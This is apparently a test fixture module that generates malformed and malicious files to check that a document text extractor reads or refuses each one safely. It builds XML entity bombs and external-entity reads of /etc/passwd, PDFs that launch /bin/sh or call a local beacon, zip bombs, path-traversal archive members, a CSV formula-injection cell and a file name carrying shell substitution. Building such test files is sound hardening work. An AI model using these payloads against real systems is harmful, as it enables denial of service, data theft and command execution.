"""Files that are damaged, absurd or malicious, made anew each time: ``python -m tests.hostile_files FOLDER``.

``HOSTILE`` lists each with what must become of it: "read", or "refused" with words that the reason must hold. Some call
home: they name ``BEACON``, on which a test listens. The same bytes are written by every run.
"""

from __future__ import annotations

import hashlib
import io
import os
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from pathlib import Path
from typing import Literal

BEACON = "http://127.0.0.1:47391/beacon"
SECRET = Path("/etc/passwd")
WORDS = "The council should make sure that children are seen alone."


@dataclass(frozen=True)
class HostileFile:
    """``says``: words of the refusal's reason, or of the text that is read. ``slow``: takes seconds or much disk."""

    name: str
    outcome: Literal["read", "refused"]
    says: str
    write: Callable[[Path], None]
    slow: bool = False


# ---------------------------------------------------------------------------------------------------------------- PDF


def pdf(objects: Iterable[bytes], trailer: bytes = b"", *, lead: bytes = b"") -> bytes:
    """A PDF of these objects, numbered from 1; the first is the catalogue."""
    out = bytearray(lead + b"%PDF-1.7\n")
    places = []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (len(places) + 1, trailer, start)
    return bytes(out)


def stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), entries, data)


def deflated(data: bytes, entries: bytes = b"") -> bytes:
    return stream(zlib.compress(data, 9), b"/Filter /FlateDecode " + entries)


def shown(words: str = WORDS, y: int = 700) -> bytes:
    return b"BT /F1 12 Tf 72 %d Td (%s) Tj ET\n" % (y, words.encode("cp1252"))


FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"


def one_page(
    content: bytes,
    *more: bytes,
    catalogue: bytes = b"",
    page: bytes = b"",
    resources: bytes = b"",
    tree: bytes = b"/Kids [3 0 R] /Count 1",
    box: bytes = b"0 0 595 842",
) -> list[bytes]:
    """Objects of a document of one page; ``content`` is a whole stream object, ``more`` are numbered from 6."""
    return [
        b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalogue,
        b"<< /Type /Pages %s >>" % tree,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [%s] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> %s >> %s >>"
        % (box, resources, page),
        content,
        FONT,
        *more,
    ]


def plain_pdf() -> bytes:
    return pdf(one_page(stream(shown())))


def looping_pdf(times: int) -> bytes:
    """Cross-reference sections that name one another as the one before."""
    whole = plain_pdf()
    start = whole.rindex(b"startxref")
    first = whole.index(b"xref\n0")
    if times == 1:
        return whole.replace(b"/Root 1 0 R ", b"/Root 1 0 R /Prev %010d" % first).replace(
            b"startxref\n%d" % first, b"startxref\n%d" % first
        )
    second = len(whole[:start]) + 40
    looped = whole[:start].replace(b"/Root 1 0 R ", b"/Root 1 0 R /Prev %010d" % (second + 16))
    looped += b" " * (second + 16 - len(looped))
    at = len(looped)
    return looped + b"xref\n0 0\ntrailer\n<< /Size 6 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF" % (first, at)


def page_tree_of(depth: int) -> bytes:
    """Each node has one child, the page is at the bottom."""
    nodes = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    for level in range(depth):
        parent = b"/Parent %d 0 R" % (level + 1) if level else b""
        nodes.append(b"<< /Type /Pages /Count 1 /Kids [%d 0 R] %s >>" % (level + 3, parent))
    nodes.append(b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 9 9] >>" % (depth + 1))
    return pdf(nodes)


def page_tree_fan(levels: int) -> bytes:
    """A hundred times the same child at each level."""
    nodes = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    for level in range(levels):
        kids = b"%d 0 R " % (level + 3) * 100
        nodes.append(b"<< /Type /Pages /Count %d /Kids [%s] >>" % (100 ** (levels - level), kids))
    nodes.append(b"<< /Type /Page /MediaBox [0 0 9 9] >>")
    return pdf(nodes)


def form_fan(levels: int) -> bytes:
    """A form that draws another ten times, which draws another ten times, and so on."""
    forms = []
    for level in range(levels):
        inner = b"/X%d Do " % (level + 1) * 10 if level < levels - 1 else b"0 0 m 9 9 l S"
        names = b"/Resources << /XObject << /X%d %d 0 R >> >>" % (level + 1, level + 7)
        forms.append(stream(inner, b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] " + names))
    page = stream(shown() + b"/X0 Do")
    return pdf(one_page(page, *forms, resources=b"/XObject << /X0 6 0 R >>"))


def rc4(key: bytes, data: bytes) -> bytes:
    state, j, out = list(range(256)), 0, bytearray()
    for i in range(256):
        j = (j + state[i] + key[i % len(key)]) % 256
        state[i], state[j] = state[j], state[i]
    i = j = 0
    for byte in data:
        i = (i + 1) % 256
        j = (j + state[i]) % 256
        state[i], state[j] = state[j], state[i]
        out.append(byte ^ state[(state[i] + state[j]) % 256])
    return bytes(out)


def encrypted_pdf(user: bytes, owner: bytes) -> bytes:
    """By the standard handler of revision 2, RC4 of 40 bits."""
    padding = bytes.fromhex("28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A")
    identity = b"0123456789abcdef"
    owner_entry = rc4(hashlib.md5((owner + padding)[:32]).digest()[:5], (user + padding)[:32])
    permissions = struct.pack("<i", -44)
    key = hashlib.md5((user + padding)[:32] + owner_entry + permissions + identity).digest()[:5]
    user_entry = rc4(key, padding)
    content = rc4(hashlib.md5(key + bytes([4, 0, 0, 0, 0])).digest()[:10], shown())
    handler = b"<< /Filter /Standard /V 1 /R 2 /P -44 /O <%s> /U <%s> >>" % (
        owner_entry.hex().encode(),
        user_entry.hex().encode(),
    )
    name = identity.hex().encode()
    return pdf(one_page(stream(content), handler), b"/Encrypt 6 0 R /ID [<%s> <%s>]" % (name, name))


def active_pdf() -> bytes:
    """Scripts, a program to start, a page to fetch, a form to send: on opening and on the page."""
    beacon = BEACON.encode()
    script = b"<< /S /JavaScript /JS (app.launchURL\\('%s'\\);) /Next 7 0 R >>" % beacon
    launch = b"<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >> /Next 8 0 R >>"
    submit = b"<< /S /SubmitForm /F << /FS /URL /F (%s) >> /Next 9 0 R >>" % beacon
    remote = b"<< /S /GoToR /F << /FS /URL /F (%s) >> /D [0 /Fit] >>" % beacon
    return pdf(
        one_page(
            stream(shown()), script, launch, submit, remote, catalogue=b"/OpenAction 6 0 R", page=b"/AA << /O 6 0 R >>"
        )
    )


def surrogate_pdf() -> bytes:
    """Letters that the font says are halves of surrogate pairs."""
    codes = b"1 begincodespacerange <00> <FF> endcodespacerange 1 beginbfrange <41> <5A> <D800> endbfrange"
    cmap = b"/CIDInit /ProcSet findresource begin 12 dict begin begincmap /CMapType 2 def %s endcmap end end" % codes
    objects = one_page(stream(shown("ABC ABC") + shown(y=650)), stream(cmap))
    objects[4] = FONT.replace(b"/Encoding", b"/ToUnicode 6 0 R /Encoding")
    return pdf(objects)


def many_rulings() -> bytes:
    lines = b"".join(b"%d %d m %d %d l S\n" % (i % 590, i % 840, 595, i % 840) for i in range(5900))
    return pdf(one_page(deflated(shown() + lines)))


def many_words(count: int) -> bytes:
    lines = b"".join(shown(f"w{i} of many", 20 + i * 7 % 800) for i in range(count))
    return pdf(one_page(deflated(lines)))


def bomb_pdf(times: int) -> bytes:
    """Blanks deflated twice: a thousandth of a thousandth; a page's content in ``times`` pieces."""
    blanks = zlib.compressobj(9)
    once = b"".join(blanks.compress(b" " * (1 << 20)) for _ in range(64)) + blanks.flush()
    body = stream(zlib.compress(once, 9), b"/Filter [/FlateDecode /FlateDecode]")
    objects = one_page(stream(shown()), body)
    objects[2] = objects[2].replace(b"/Contents 4 0 R", b"/Contents [4 0 R %s]" % (b"6 0 R " * times))
    return pdf(objects)


# ----------------------------------------------------------------------------------------------------------- archives

_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"
_SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'


def packed(members: Iterable[tuple[str, bytes]]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            info = zipfile.ZipInfo(name, (2016, 3, 4, 12, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, data)
    return out.getvalue()


def docx_members(body: str = "", *, doctype: str = "", rels: str = "") -> dict[str, bytes]:
    paragraph = f"<w:p><w:r><w:t>{WORDS}</w:t></w:r></w:p>"
    types = (
        f'{XML}<Types xmlns="{_PACKAGE}/content-types"><Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
        'ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
    )
    top = (
        f'{XML}<Relationships xmlns="{_PACKAGE}/relationships"><Relationship Id="rId1" '
        f'Type="{_OFFICE}/officeDocument" Target="word/document.xml"/></Relationships>'
    )
    own = f'{XML}<Relationships xmlns="{_PACKAGE}/relationships">{rels}</Relationships>'
    document = f'{XML}{doctype}<w:document xmlns:w="{_WORD}"><w:body>{body}{paragraph}</w:body></w:document>'
    return {
        "[Content_Types].xml": types.encode(),
        "_rels/.rels": top.encode(),
        "word/document.xml": document.encode(),
        "word/_rels/document.xml.rels": own.encode(),
    }


def docx_file(body: str = "", *, doctype: str = "", rels: str = "", more: Iterable[tuple[str, bytes]] = ()) -> bytes:
    return packed([*docx_members(body, doctype=doctype, rels=rels).items(), *more])


def xlsx_file(rows: str = "", after: str = "", *, doctype: str = "", sheets: int = 1, strings: str = "") -> bytes:
    types = "".join(
        f'<Override PartName="/xl/{name}" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.'
        f'{kind}+xml"/>'
        for name, kind in [
            ("workbook.xml", "sheet.main"),
            ("sharedStrings.xml", "sharedStrings"),
            *((f"worksheets/sheet{n}.xml", "worksheet") for n in range(1, sheets + 1)),
        ]
    )
    listed = "".join(f'<sheet name="S{n}" sheetId="{n}" r:id="rId{n}"/>' for n in range(1, sheets + 1))
    links = "".join(
        f'<Relationship Id="rId{n}" Type="{_OFFICE}/worksheet" Target="worksheets/sheet{n}.xml"/>'
        for n in range(1, sheets + 1)
    )
    plan = "".join(
        f'<row r="{number}">'
        + "".join(
            f'<c r="{c}{number}" t="inlineStr"><is><t>{t}</t></is></c>' for c, t in zip("ABC", cells, strict=True)
        )
        + "</row>"
        for number, cells in enumerate((("Ref", "Recommendation", "Action"), ("1", WORDS, "See them alone")), 1)
    )
    sheet = (
        f'{XML}{doctype}<worksheet xmlns="{_SHEET}"><dimension ref="A1:XFD1048576"/>'
        f"<sheetData>{plan}{rows}</sheetData>{after}</worksheet>"
    )
    return packed(
        [
            (
                "[Content_Types].xml",
                (
                    f'{XML}<Types xmlns="{_PACKAGE}/content-types"><Default Extension="rels" ContentType="application/'
                    'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
                    f'ContentType="application/xml"/>{types}</Types>'
                ).encode(),
            ),
            (
                "_rels/.rels",
                (
                    f'{XML}<Relationships xmlns="{_PACKAGE}/relationships"><Relationship Id="rId1" '
                    f'Type="{_OFFICE}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
                ).encode(),
            ),
            (
                "xl/workbook.xml",
                f'{XML}<workbook xmlns="{_SHEET}" xmlns:r="{_OFFICE}"><sheets>{listed}</sheets></workbook>'.encode(),
            ),
            (
                "xl/_rels/workbook.xml.rels",
                (
                    f'{XML}<Relationships xmlns="{_PACKAGE}/relationships">{links}<Relationship Id="rIdS" '
                    f'Type="{_OFFICE}/sharedStrings" Target="sharedStrings.xml"/></Relationships>'
                ).encode(),
            ),
            ("xl/sharedStrings.xml", f'{XML}<sst xmlns="{_SHEET}">{strings}</sst>'.encode()),
            *((f"xl/worksheets/sheet{n}.xml", sheet.encode()) for n in range(1, sheets + 1)),
        ]
    )


def laughs(root: str) -> str:
    """Entities of entities: ten to the ninth in a few lines."""
    lines = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<!DOCTYPE {root} [<!ENTITY l0 "lol">{lines}]>'


def external(root: str) -> str:
    return f'<!DOCTYPE {root} SYSTEM "{BEACON}.dtd" [<!ENTITY x SYSTEM "{SECRET.as_uri()}">]>'


def overlapping_docx(copies: int = 3000) -> bytes:
    """A directory of many parts that are all the same bytes."""
    data = docx_file(more=[("word/media/x.xml", zlib.compress(b"x" * 100_000))])
    directory = data.rindex(b"PK\x01\x02")
    ending = data.rindex(b"PK\x05\x06")
    entry = data[directory:ending]
    size, count = (
        struct.unpack("<I", data[ending + 12 : ending + 16])[0],
        struct.unpack("<H", data[ending + 8 : ending + 10])[0],
    )
    more = b"".join(entry.replace(b"word/media/x.xml", b"word/media/%04d" % number + b".") for number in range(copies))
    total = count + copies
    tail = data[ending : ending + 8] + struct.pack("<HHI", total, total, size + len(more)) + data[ending + 16 :]
    return data[:ending] + more + tail


def lying_docx() -> bytes:
    """A part that says it is small and is not."""
    data = bytearray(docx_file("<w:p/>" * 200_000))
    real = struct.pack("<I", len(docx_members("<w:p/>" * 200_000)["word/document.xml"]))
    return bytes(data).replace(real, struct.pack("<I", 900))


def locked_docx() -> bytes:
    """Each part is marked as encrypted."""
    data = bytearray(docx_file())
    for mark, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(mark)
        while at >= 0:
            data[at + flags] |= 1
            at = data.find(mark, at + 4)
    return bytes(data)


def ole(stream_name: str) -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + stream_name.encode("utf-16-le") + bytes(600)


# --------------------------------------------------------------------------------------------------------- text, HTML


def page(body: str, head: str = "") -> bytes:
    return f"<!DOCTYPE html><html><head>{head}<title>x</title></head><body>{body}<p>{WORDS}</p></body></html>".encode()


def filled(path: Path, head: bytes, piece: bytes, size: int) -> None:
    """A file of ``size`` bytes that repeats ``piece``."""
    block = piece * max(1, (1 << 20) // len(piece))
    with path.open("wb") as out:
        out.write(head)
        while out.tell() < size:
            out.write(block)


def calling_page() -> bytes:
    return page(
        f'<img src="{BEACON}"><iframe src="{BEACON}"></iframe><script src="{BEACON}"></script>'
        f'<object data="{SECRET.as_uri()}"></object><svg><image href="{BEACON}"/></svg>',
        f'<meta http-equiv="refresh" content="0;url={BEACON}"><base href="{BEACON}">'
        f'<link rel=stylesheet href="{BEACON}">',
    )


def nested_parts(depth: int) -> bytes:
    """A saved page in parts of parts of parts."""
    lines = ["MIME-Version: 1.0"]
    for level in range(depth):
        lines += [f'Content-Type: multipart/related; boundary="b{level}"', "", f"--b{level}"]
    return "\n".join([*lines, "Content-Type: text/html", "", f"<p>{WORDS}</p>"]).encode()


def noise(size: int) -> bytes:
    return b"".join(hashlib.sha256(struct.pack("<I", n)).digest() for n in range(size // 32))


def spaced(data: bytes) -> bytes:
    return b"".join(bytes((byte, 0)) for byte in data)


# ------------------------------------------------------------------------------------------------------------ the list


def _bytes(make: Callable[[], bytes]) -> Callable[[Path], None]:
    def write(path: Path) -> None:
        path.write_bytes(make())

    return write


def _file(
    name: str, outcome: Literal["read", "refused"], says: str, make: Callable[[], bytes], *, slow: bool = False
) -> HostileFile:
    return HostileFile(name, outcome, says, _bytes(make), slow)


def _large(name: str, says: str, head: bytes, piece: bytes, size: int, *, slow: bool = False) -> HostileFile:
    return HostileFile(name, "refused", says, lambda path: filled(path, head, piece, size), slow)


LETTER = f"Überprüfung der Fürsorge – “{WORDS}” £5".replace("–", "-")
SCAN = b"/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /ColorSpace /DeviceGray /BitsPerComponent 8"

HOSTILE: tuple[HostileFile, ...] = (
    # PDF: damaged
    _file("cut-short.pdf", "refused", "damaged or cut short", lambda: plain_pdf()[:-150]),
    _file("cut-in-its-page.pdf", "refused", "damaged or cut short", lambda: plain_pdf()[:150]),
    _file("only-a-head.pdf", "refused", "damaged or cut short", lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"),
    _file("head-after-junk.pdf", "read", WORDS, lambda: pdf(one_page(stream(shown())), lead=b"junk\n" * 150)),
    _file("noise-after-head.pdf", "refused", "damaged or cut short", lambda: b"%PDF-1.7\n" + noise(1 << 16)),
    _file("no-words.pdf", "refused", "scan", lambda: pdf(one_page(stream(b"0 0 m 9 9 l S")))),
    # PDF: locked
    _file("locked.pdf", "refused", "password", lambda: encrypted_pdf(b"secret", b"owner")),
    _file("locked-for-changes-only.pdf", "read", WORDS, lambda: encrypted_pdf(b"", b"owner")),
    # PDF: endless
    _file("table-of-places-names-itself.pdf", "read", WORDS, lambda: looping_pdf(1)),
    _file("two-tables-of-places-in-a-ring.pdf", "read", WORDS, lambda: looping_pdf(2)),
    _file(
        "pages-in-a-ring.pdf",
        "refused",
        "pages",
        lambda: pdf(one_page(stream(shown()), tree=b"/Kids [2 0 R] /Count 5")),
    ),
    _file(
        "a-million-pages-claimed.pdf",
        "refused",
        "1000000 pages",
        lambda: pdf(one_page(stream(shown()), tree=b"/Kids [3 0 R] /Count 1000000")),
    ),
    _file(
        "a-million-pages.pdf",
        "refused",
        "1000000 pages",
        lambda: pdf(one_page(stream(shown()), tree=b"/Kids [%s] /Count 1000000" % (b"3 0 R " * 1_000_000))),
    ),
    _file("a-million-pages-in-four-nodes.pdf", "refused", "1000000 pages", lambda: page_tree_fan(3)),
    _file(
        "three-thousand-empty-pages.pdf",
        "refused",
        "scan",
        lambda: pdf(one_page(stream(b""), tree=b"/Kids [%s] /Count 3000" % (b"3 0 R " * 3000))),
    ),
    _file("pages-ten-thousand-deep.pdf", "refused", "", lambda: page_tree_of(10_000)),
    _file(
        "arrays-a-million-deep.pdf",
        "read",
        WORDS,
        lambda: pdf(one_page(stream(shown()), b"[" * 1_000_000 + b"]" * 1_000_000, page=b"/X 6 0 R")),
    ),
    _file(
        "form-draws-itself.pdf",
        "read",
        WORDS,
        lambda: pdf(
            one_page(
                stream(shown() + b"/X0 Do"),
                stream(
                    b"/X0 Do",
                    b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X0 6 0 R >> >>",
                ),
                resources=b"/XObject << /X0 6 0 R >>",
            )
        ),
    ),
    _file("forms-of-forms-of-forms.pdf", "refused", "", lambda: form_fan(12), slow=True),
    # PDF: large inside
    _file("blanks-deflated-twice.pdf", "read", WORDS, lambda: bomb_pdf(1)),
    _file("blanks-deflated-twice-in-many-pieces.pdf", "refused", "", lambda: bomb_pdf(400), slow=True),
    _file(
        "a-picture-of-four-gigabytes.pdf",
        "refused",
        "scan",
        lambda: pdf(
            one_page(
                stream(b"595 0 0 842 0 0 cm /I Do"),
                deflated(bytes(1 << 20), SCAN),
                resources=b"/XObject << /I 6 0 R >>",
            )
        ),
    ),
    _file("thousands-of-rulings.pdf", "read", WORDS, many_rulings),
    _file("a-page-of-a-hundred-thousand-words.pdf", "read", "of many", lambda: many_words(33_000), slow=True),
    _file(
        "a-page-as-large-as-a-country.pdf",
        "read",
        WORDS,
        lambda: pdf(one_page(stream(shown()), box=b"-99999999 -99999999 999999999 999999999")),
    ),
    _file("a-page-of-no-size.pdf", "read", WORDS, lambda: pdf(one_page(stream(shown()), box=b"0 0 0 0"))),
    # PDF: active
    _file("starts-programs-and-calls-home.pdf", "read", WORDS, active_pdf),
    _file(
        "content-in-another-file.pdf",
        "refused",
        "scan",
        lambda: pdf(one_page(stream(b"", b"/F << /Type /Filespec /F (%s) >>" % str(SECRET).encode()))),
    ),
    _file("letters-that-are-half-letters.pdf", "read", WORDS[1:], surrogate_pdf),
    # wrong endings
    _file("a-page.pdf", "refused", "it is a web page, not a PDF", lambda: page("")),
    _file("a-pdf.docx", "read", WORDS, plain_pdf),
    _file("a-pdf.txt", "read", WORDS, plain_pdf),
    _file("a-picture.pdf", "refused", "PNG", lambda: b"\x89PNG\r\n\x1a\n" + noise(4096)),
    _file("a-word-file.pdf", "read", WORDS, docx_file),
    _file("a-workbook.csv", "read", WORDS, xlsx_file),
    _file("noise.txt", "refused", "of a kind that is not read", lambda: noise(1 << 16)),
    _file("noise.doc", "refused", "legacy Word file", lambda: ole("WordDocument") + noise(1 << 16)),
    # archives
    _file(
        "an-archive.docx",
        "refused",
        "ZIP archive",
        lambda: packed([("a.zip", packed([("b.zip", packed([("c.txt", b"x")]))]))]),
    ),
    _file("cut-short.docx", "refused", "damaged", lambda: docx_file()[:-30]),
    _file("bomb.docx", "refused", "times its size", lambda: docx_file(more=[("word/media/x.bin", bytes(64 << 20))])),
    _file(
        "bomb-of-two-gigabytes.docx",
        "refused",
        "unpacks to",
        lambda: docx_file(more=[(f"word/media/{n}.bin", bytes(128 << 20)) for n in range(16)]),
        slow=True,
    ),
    _file("overlapping.docx", "refused", "overlap", overlapping_docx),
    _file(
        "ten-thousand-parts.docx",
        "refused",
        "parts",
        lambda: docx_file(more=[(f"word/media/{n}", b"") for n in range(10_000)]),
    ),
    _file("says-it-is-small.docx", "refused", "damaged", lying_docx),
    _file("locked-parts.docx", "refused", "encrypted", locked_docx),
    _file("locked.docx", "refused", "password", lambda: ole("EncryptedPackage")),
    _file(
        "parts-that-climb-out.docx",
        "read",
        WORDS,
        lambda: docx_file(more=[("../../../../tmp/inspectgraph-escaped", b"x"), ("/tmp/inspectgraph-escaped", b"x")]),
    ),
    # XML
    _file(
        "laughs.docx",
        "refused",
        "document type",
        lambda: docx_file("<w:p><w:r><w:t>&l9;</w:t></w:r></w:p>", doctype=laughs("w:document")),
    ),
    _file(
        "reads-secrets.docx",
        "refused",
        "document type",
        lambda: docx_file("<w:p><w:r><w:t>&x;</w:t></w:r></w:p>", doctype=external("w:document")),
    ),
    _file(
        "laughs-in-utf-16.docx",
        "refused",
        "document type",
        lambda: packed(
            [
                (
                    name,
                    data.decode().replace("UTF-8", "UTF-16").encode("utf-16")
                    if "document.xml" in name and "rels" not in name
                    else data,
                )
                for name, data in docx_members(doctype=laughs("w:document")).items()
            ]
        ),
    ),
    _file(
        "calls-home.docx",
        "read",
        WORDS,
        lambda: docx_file(
            rels="".join(
                f'<Relationship Id="{kind}" Type="{_OFFICE}/{kind}" Target="{BEACON}" TargetMode="External"/>'
                for kind in ("attachedTemplate", "image", "subDocument", "frame")
            )
        ),
    ),
    _file(
        "elements-a-hundred-thousand-deep.docx",
        "refused",
        "damaged",
        lambda: docx_file("<w:p>" * 100_000 + "</w:p>" * 100_000),
    ),
    _file(
        "tables-in-tables.docx",
        "read",
        WORDS,
        lambda: docx_file("<w:tbl><w:tr><w:tc><w:p/></w:tc><w:tc>" * 60 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 60),
    ),
    _file(
        "a-cell-as-wide-as-the-world.docx",
        "read",
        WORDS,
        lambda: docx_file(
            '<w:tbl><w:tr><w:trPr><w:gridBefore w:val="999999999"/></w:trPr><w:tc>'
            '<w:tcPr><w:gridSpan w:val="2147483647"/></w:tcPr>'
            "<w:p><w:r><w:t>a b</w:t></w:r></w:p></w:tc><w:tc><w:p><w:r><w:t>c d</w:t></w:r></w:p></w:tc>"
            "</w:tr></w:tbl>"
        ),
    ),
    _file(
        "a-hundred-thousand-attributes.docx",
        "read",
        WORDS,
        lambda: docx_file("<w:p " + " ".join(f'a{n}="{n}"' for n in range(100_000)) + "/>"),
    ),
    _file("laughs.xlsx", "refused", "document type", lambda: xlsx_file(doctype=laughs("worksheet"))),
    _file("reads-secrets.xlsx", "refused", "document type", lambda: xlsx_file(doctype=external("worksheet"))),
    _file("claims-all-cells.xlsx", "read", WORDS, xlsx_file),
    _file(
        "a-cell-in-the-last-corner.xlsx",
        "refused",
        "too many cells",
        lambda: xlsx_file('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
    ),
    _file(
        "all-cells-are-one.xlsx",
        "refused",
        "merge",
        lambda: xlsx_file(after='<mergeCells count="1"><mergeCell ref="A3:XFD1048576"/></mergeCells>'),
    ),
    _file(
        "many-merged-areas.xlsx",
        "refused",
        "merge",
        lambda: xlsx_file(
            after="<mergeCells>"
            + "".join(f'<mergeCell ref="D{n}:ZZ{n + 9}"/>' for n in range(10, 20_000, 10))
            + "</mergeCells>"
        ),
    ),
    _file(
        "half-letters.xlsx",
        "read",
        WORDS,
        lambda: xlsx_file('<row r="3"><c r="A3" t="inlineStr"><is><t>a_xD800_b _x0000_ _xFFFF_</t></is></c></row>'),
    ),
    _file("a-hundred-and-fifty-sheets.xlsx", "read", WORDS, lambda: xlsx_file(sheets=150)),
    # HTML
    _large("a-page-of-33-megabytes.html", "more than", b"<html><body>", b"<p>All is well.</p>\n", 33 << 20),
    _large(
        "a-page-of-100-megabytes.html", "more than", b"<html><body>", b"<p>All is well.</p>\n", 100 << 20, slow=True
    ),
    _file("a-hundred-thousand-open-tags.html", "refused", "nested", lambda: page("<div>" * 100_000)),
    _file("tables-in-tables.html", "read", "a", lambda: page("<table><tr><td>a<td>" * 5000)),
    _file("bold-in-bold.html", "refused", "nested", lambda: page("<b><i>" * 20_000)),
    _file(
        "a-hundred-thousand-attributes.html",
        "refused",
        "tag",
        lambda: page("<p " + " ".join(f"a{n}=1" for n in range(100_000)) + ">x y</p>"),
    ),
    _file(
        "cells-over-all-rows.html",
        "refused",
        "cells",
        lambda: page("<table>" + "<tr><td rowspan=65000 colspan=9>a<td>b" * 6000 + "</table>"),
    ),
    _file("laughs.html", "read", WORDS, lambda: page("&l9;").replace(b"<!DOCTYPE html>", laughs("html").encode())),
    _file("calls-home.html", "read", WORDS, calling_page),
    _file(
        "declares-a-slow-encoding.html",
        "read",
        WORDS,
        lambda: page("\u00e9 " * 100_000, '<meta charset="punycode">').decode().encode("cp1252"),
    ),
    _file(
        "instructions-without-end.html",
        "read",
        WORDS,
        lambda: b"<html><body><p>" + WORDS.encode() + b"<?xml " * 200_000,
    ),
    _file("parts-of-parts.mht.html", "refused", "nested", lambda: nested_parts(3000)),
    # text
    _file("empty.txt", "refused", "empty", lambda: b""),
    _file("empty.pdf", "refused", "empty", lambda: b""),
    _file("empty.docx", "refused", "empty", lambda: b""),
    _file("only-blanks.txt", "refused", "no text", lambda: b" \t\r\n\x0c" * 10_000),
    _file("only-nuls.txt", "refused", "", lambda: bytes(1 << 16)),
    _file("a-nul-after-each-byte.txt", "read", WORDS, lambda: spaced(WORDS.encode() + b"\n") * 50),
    _file("utf-16-without-a-mark.txt", "read", WORDS, lambda: (LETTER + "\n").encode("utf-16-le") * 20),
    _file("utf-16-from-the-other-end.txt", "read", WORDS, lambda: (LETTER + "\n").encode("utf-16-be") * 20),
    _file("utf-32.txt", "read", WORDS, lambda: LETTER.encode("utf-32")),
    _file("cp1252.txt", "read", "£5", lambda: LETTER.encode("cp1252")),
    _file("one-line.txt", "read", WORDS, lambda: (WORDS + " ").encode() * 6_000),
    _file("one-word.txt", "read", "aaaa", lambda: b"a" * 300_000),
    _file("one-number.txt", "read", "1111", lambda: b"1" * 200_000 + b" is a number."),
    _file("numbers-of-numbers.txt", "read", "1.1.1", lambda: b"1." * 60_000 + b" All is well."),
    _file("brackets.txt", "read", "All", lambda: b"(" * 100_000 + b" All is well."),
    _file("blanks-within-a-heading.md", "read", "All", lambda: b"# All" + b" " * 100_000 + b"is well"),
    _file(
        "blanks-within-a-line.txt",
        "read",
        "All",
        lambda: b"All" + b" \t" * 100_000 + b"is well" + b"- " * 50_000 + b"x y",
    ),
    _file("a-hundred-thousand-lines.txt", "read", "a", lambda: b"a\n\n" * 100_000, slow=True),
    _file("quotes-that-never-close.txt", "refused", "columns", lambda: b'All\tis\t"well\n' * 20_000),
    _file("tags-that-never-close.txt", "read", "All", lambda: b"<p All is <ul well </" * 8_000),
    _file("pipes.md", "refused", "columns", lambda: b"|All" * 50_000 + b"|\n" + b"|-" * 50_000 + b"|\n"),
    _file("marks-upon-marks.txt", "read", "", lambda: ("a" + "\u0301" * 50_000 + "\u202e\u200b\ufeff b").encode()),
    # tables
    _file(
        "a-million-columns.csv",
        "refused",
        "columns",
        lambda: b"Ref,Recommendation,Action" + b",a" * 1_000_000 + b"\n1,b,c\n",
    ),
    _file(
        "a-quote-that-never-closes.csv",
        "refused",
        "quotation mark",
        lambda: b'Ref,Recommendation,Action\n1,"' + b"b,c\n" * 200_000,
    ),
    _file("formulas.csv", "read", WORDS, lambda: f"Ref,Recommendation,Action\n1,{WORDS},=cmd|'/c calc'!A1\n".encode()),
    # names
    _file("new\nline.txt", "read", WORDS, lambda: f"{WORDS} 1".encode()),
    _file("Prüfung – Fürsorge.txt", "read", WORDS, lambda: f"{WORDS} 2".encode()),
    _file("-rf $(touch escaped) `id` ;.txt", "read", WORDS, lambda: f"{WORDS} 3".encode()),
    _file(os.fsdecode(b"no \xff\xfe letters.txt"), "refused", "UTF-8", lambda: f"{WORDS} 4".encode()),
    _file("n" * 251 + ".txt", "read", WORDS, lambda: f"{WORDS} 5".encode()),
)


def write_hostile_files(folder: Path, *, slow: bool = False) -> list[HostileFile]:
    """Write the files into ``folder``, all or only the quick ones, and beside them what is no file: a folder, a pipe
    and links that go by a document's name."""
    folder.mkdir(parents=True, exist_ok=True)
    written = [file for file in HOSTILE if slow or not file.slow]
    for file in written:
        file.write(folder / file.name)
